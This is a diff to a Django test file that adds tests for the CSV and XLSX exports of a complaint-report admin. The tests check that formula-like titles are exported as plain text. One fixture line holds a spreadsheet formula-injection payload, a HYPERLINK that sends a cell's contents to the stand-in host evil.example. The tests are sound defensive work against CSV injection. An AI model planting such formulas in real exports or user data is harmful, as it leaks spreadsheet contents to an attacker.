@@ -1,7 +1,10 @@
 """The e-laga admin: list filters, export, processing messages and constant queries."""
 
+import csv
+import io
 from http import HTTPStatus
 
+import openpyxl
 import pytest
 from django.contrib.messages import get_messages
 from django.db import connection
@@ -23,6 +26,7 @@ from tests.pengaduan.factories import (
 pytestmark = pytest.mark.django_db
 
 S = StatusLaporan
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 
 
 @pytest.fixture
@@ -182,6 +186,29 @@ def test_the_export_has_no_reporter_identity(moderator_client):
     assert "Kode lacak" in content.splitlines()[0]
     for identity in (laporan.nama_pelapor, laporan.email, laporan.telepon, "1205"):
         assert identity not in content
+
+
+def test_the_csv_export_shows_a_formula_like_title_as_text(moderator_client):
+    laporan = LaporanFactory(judul=HYPERLINK)
+    response = moderator_client.get(reverse("laporan:index"), {"export": "csv"})
+    content = b"".join(response.streaming_content).decode()
+    row = next(
+        row for row in csv.reader(io.StringIO(content)) if row[0] == laporan.kode_lacak
+    )
+    assert row[2] == "'" + HYPERLINK
+
+
+def test_the_xlsx_export_stores_a_formula_like_title_as_text(moderator_client):
+    LaporanFactory(judul=HYPERLINK)
+    response = moderator_client.get(reverse("laporan:index"), {"export": "xlsx"})
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    title = next(
+        cell
+        for row in workbook.active.iter_rows()
+        for cell in row
+        if cell.value == HYPERLINK
+    )
+    assert title.data_type == "s"
 
 
 def test_the_list_keeps_a_constant_number_of_queries(moderator_client):
